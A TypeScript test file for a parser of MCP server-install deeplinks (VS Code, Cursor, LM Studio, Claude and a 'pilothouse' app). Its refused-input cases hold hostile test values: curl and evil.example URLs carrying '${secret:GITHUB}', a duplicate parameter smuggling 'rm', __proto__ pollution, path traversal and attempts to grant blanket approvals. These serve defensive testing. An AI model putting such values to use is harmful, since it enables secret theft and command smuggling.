// Links by which pages add servers: what each known form carries, and what none may.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readServerLink } from '../../../contract/server-links.ts';

const entry = { command: 'npx', args: ['-y', 'files'], env: { LEVEL: 'ä' } };
const base64 = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64');
const encoded = (value: unknown) => encodeURIComponent(JSON.stringify(value));
const cursor = 'cursor://anysphere.cursor-deeplink/mcp/install';
const ours = 'pilothouse://add-server';
const claude =
  'claude://claude.ai/customize/connectors?modal=add-custom-connector&connectorName=Docs&connectorUrl=https%3A%2F%2Fdocs.example.com%2Fmcp';

function listIn(link: string): unknown {
  const read = readServerLink(link);
  return read?.kind === 'server' ? JSON.parse(read.text) : read;
}

describe('a link that adds a server', () => {
  it.each([
    ['of VS Code', `vscode:mcp/install?${encoded({ name: 'Files', ...entry })}`],
    ['of VS Code Insiders', `vscode-insiders:mcp/install?${encoded({ name: 'Files', ...entry })}`],
    ['of VS Code on a website', `https://vscode.dev/redirect/mcp/install?name=Files&config=${encoded(entry)}`],
    [
      'of VS Code on a website, which leads on',
      `https://insiders.vscode.dev/redirect?url=${encodeURIComponent(`vscode:mcp/install?${encoded({ name: 'Files', ...entry })}`)}`,
    ],
    ['of Cursor', `${cursor}?name=Files&config=${encodeURIComponent(base64(entry))}`],
    ['of Cursor, whose base64 nobody encoded', `${cursor}?name=Files&config=${base64(entry)}`],
    [
      'of Cursor in the other alphabet',
      `${cursor}?name=Files&config=${Buffer.from(JSON.stringify(entry)).toString('base64url')}`,
    ],
    [
      'of Cursor on a website',
      `https://cursor.com/en/install-mcp?name=Files&config=${encodeURIComponent(base64(entry))}`,
    ],
    ['of LM Studio', `lmstudio://add_mcp?name=Files&config=${encodeURIComponent(base64(entry))}`],
    ['of ours', `pilothouse://add-server?name=Files&config=${encodeURIComponent(base64(entry))}`],
  ])('%s says its name and how it is started', (_of, link) => {
    expect(listIn(link)).toEqual({ mcpServers: { Files: entry } });
  });

  it('of VS Code says what is asked for', () => {
    const inputs = [{ id: 'key', type: 'promptString', description: 'Key', password: true }];
    const link = `vscode:mcp/install?${encoded({ name: 'Files', ...entry, inputs })}`;
    expect(listIn(link)).toEqual({ servers: { Files: entry }, inputs });
    const other = `https://vscode.dev/redirect/mcp/install?name=Files&inputs=${encoded(inputs)}&config=${encoded(entry)}`;
    expect(listIn(other)).toEqual({ servers: { Files: entry }, inputs });
  });

  it.each(['https', 'claude'])('of Claude (%s) says an address', scheme => {
    const link = `${scheme}://claude.ai/customize/connectors?modal=add-custom-connector&connectorName=Docs&connectorUrl=https%3A%2F%2Fdocs.example.com%2Fmcp`;
    expect(listIn(link)).toEqual({ mcpServers: { Docs: { url: 'https://docs.example.com/mcp' } } });
  });

  it('names an entry of a catalogue', () => {
    expect(readServerLink('vscode:mcp/by-name/io.github.owner/server')).toEqual({
      kind: 'entry',
      name: 'io.github.owner/server',
    });
  });

  it('carries neither walls nor approvals nor what it is allowed', () => {
    const more = { ...entry, sandbox: null, approved: true, alwaysAllow: ['*'], autoApprove: ['*'], start: 'always' };
    expect(listIn(`${cursor}?name=Files&config=${base64(more)}`)).toEqual({ mcpServers: { Files: entry } });
  });

  it.each([
    ['secret', `${cursor}?name=a&config=${base64({ command: 'curl', args: ['${secret:GITHUB}'] })}`],
    ['secret', `${cursor}?name=a&config=${base64({ url: 'https://evil.example/${ SECRET :GITHUB}' })}`],
    ['twice', `${cursor}?name=a&config=${base64(entry)}&config=${base64({ command: 'rm' })}`],
    ['twice', `${cursor}?name=a&config=${base64(entry)}&con%66ig=${base64({ command: 'rm' })}`],
    ['encoding', `${cursor}?name=a&config=%`],
    ['encoding', `${cursor}?name=a&config=%E0%A4%A`],
    ['encoding', `${cursor}?name=a&config=!!!`],
    ['encoding', `${cursor}?name=a&config=${Buffer.from([0x7b, 0xff, 0x7d]).toString('base64')}`],
    ['encoding', `${cursor}?name=a&config=${Buffer.from('{"__proto__":{"command":"x"}}').toString('base64')}`],
    ['encoding', 'vscode:mcp/install?{'],
    ['incomplete', `${cursor}?name=a`],
    ['incomplete', `${cursor}?config=${base64(entry)}`],
    ['incomplete', `${cursor}?name=__proto__&config=${base64(entry)}`],
    ['incomplete', `${cursor}?name=a&config=${base64(['npx'])}`],
    ['incomplete', `${cursor}?name=a&config=${base64({ args: [] })}`],
    ['incomplete', 'vscode:mcp/by-name/../../etc?x=<y>'],
    ['incomplete', 'https://vscode.dev/redirect?url=vscode%3Aextension%2Fx'],
    ['long', `${cursor}?name=a&config=${'A'.repeat(30_000)}`],
  ])('is refused as %s: %s', (fault, link) => {
    expect(readServerLink(link)).toEqual({ kind: 'fault', fault });
  });

  it.each(['https://mcp.example.com/install?name=a&config=b', 'cursor://other/mcp/install?name=a', 'npx -y files', ''])(
    'is none: %s',
    text => expect(readServerLink(text)).toBeNull(),
  );

  it.each([
    ['name=Files&command=npx%20-y%20files%20%24HOME', 'Files', 'npx -y files $HOME'],
    ['name=My+Files&command=npx+-y+a%2Bb', 'My Files', 'npx -y a+b'],
    ['command=npx', '', 'npx'],
    ['name=Docs&url=https%3A%2F%2Fdocs.example.com%2Fmcp', 'Docs', 'https://docs.example.com/mcp'],
    ['url=https://docs.example.com/mcp?q=a+b', '', 'https://docs.example.com/mcp?q=a+b'],
    ['name=a&url=https://b.example&command=c', 'a', 'c'],
    ['name=a&&command=b&unknown=x&#y', 'a', 'b'],
    ['', '', ''],
  ])('of ours fills in what is typed: %s', (query, name, commandLine) => {
    const typed = { kind: 'typed', name, commandLine };
    expect(readServerLink(`${ours}?${query}`)).toEqual(typed);
    expect(readServerLink(`${ours}/?${query}`)).toEqual(typed);
  });

  it('of ours opens the form without anything to fill in', () => {
    expect(readServerLink(ours)).toEqual({ kind: 'typed', name: '', commandLine: '' });
  });

  it('of ours carries a whole list, as it is written', () => {
    const text = `{ "mcpServers": ${JSON.stringify({ Files: entry, Docs: { url: 'https://docs.example.com' } })} }`;
    expect(readServerLink(`${ours}?json=${encodeURIComponent(text)}`)).toEqual({ kind: 'list', text });
  });

  it('of ours carries the link of another app', () => {
    const link = (other: string) => `${ours}?link=${encodeURIComponent(other)}`;
    expect(listIn(link(`${cursor}?name=Files&config=${base64(entry)}`))).toEqual({ mcpServers: { Files: entry } });
    expect(listIn(link(claude))).toEqual({ mcpServers: { Docs: { url: 'https://docs.example.com/mcp' } } });
    expect(readServerLink(link('vscode:mcp/by-name/io.github.owner/server'))).toEqual({
      kind: 'entry',
      name: 'io.github.owner/server',
    });
  });

  it('of ours means the same wherever it says several things', () => {
    const config = `config=${encodeURIComponent(base64(entry))}`;
    const link = `link=${encodeURIComponent(claude)}`;
    const all = [config, link, 'json=%7B%7D', 'command=a', 'url=https://b.example'];
    const read = all.map((_, at) => readServerLink(`${ours}?name=Files&${all.slice(at).toReversed().join('&')}`));
    expect(read).toMatchObject([
      { kind: 'server', name: 'Files' },
      { kind: 'server', name: 'Docs' },
      { kind: 'list', text: '{}' },
      { kind: 'typed', commandLine: 'a' },
      { kind: 'typed', commandLine: 'https://b.example' },
    ]);
  });

  it.each([
    ['twice', 'name=a&command=b&command=c'],
    ['twice', 'name=a&command=b&com%6dand=c'],
    ['encoding', 'name=a&command=%E0%A4%A'],
    ['encoding', 'name=a&config=%25%25'],
    ['encoding', 'json=x'],
    ['encoding', 'json=%7B%22__proto__%22%3A%7B%7D%7D'],
    ['encoding', `json=${encodeURIComponent(`${ours}?json={}`)}`],
    ['incomplete', 'json=%5B%5D'],
    ['incomplete', 'link=https%3A%2F%2Fexample.com'],
    ['incomplete', 'link=npx'],
    ['incomplete', `link=${encodeURIComponent(`${ours}?name=a&command=b`)}`],
    ['incomplete', `config=${base64({ args: [] })}&name=a`],
    ['secret', 'name=a&command=curl%20%24%7Bsecret%3AGITHUB%7D'],
    ['secret', `name=a&command=${encodeURIComponent("curl '$'{sec\\ret:GITHUB}")}`],
    ['secret', `name=a&command=${encodeURIComponent('curl ${sec\\\nret:GITHUB}')}`],
    ['secret', 'name=%24%7Bsecret%3AX%7D&command=b'],
    ['secret', 'name=a&url=https://evil.example/$%7Bsecret:X%7D'],
    ['secret', 'json=%7B%22env%22%3A%22%24%7Bsecret%3AX%7D%22%7D'],
    ['secret', `json=${encodeURIComponent(String.raw`{"env":"\u0024{secret:X}"}`)}`],
    ['long', `name=${'n'.repeat(61)}&command=b`],
    ['long', `name=a&command=${'b'.repeat(20_001)}`],
    ['long', `json={"a":"${'b'.repeat(20_000)}"}`],
    ['long', `json=${'x'.repeat(30_000)}`],
  ])('of ours is refused as %s: %s', (fault, query) => {
    expect(readServerLink(`${ours}?${query}`)).toEqual({ kind: 'fault', fault });
  });

  it.each(['pilothouse://open', 'pilothouse://add-server.evil?name=a&command=b', 'pilothouse://approve?server=files'])(
    'of ours is none that says something else: %s',
    text => expect(readServerLink(text)).toBeNull(),
  );

  it('never throws, whatever it carries', () => {
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.base64String({ maxLength: 200 }));
    fc.assert(
      fc.property(
        fc.constantFrom(
          `${cursor}?name=a&config=`,
          'vscode:mcp/install?',
          `${cursor}?`,
          `${ours}?`,
          `${ours}?json={`,
          `${ours}?link=${ours}`,
        ),
        text,
        (start, end) => {
          const read = readServerLink(start + end);
          if (read?.kind === 'server') JSON.parse(read.text);
        },
      ),
    );
  });
});
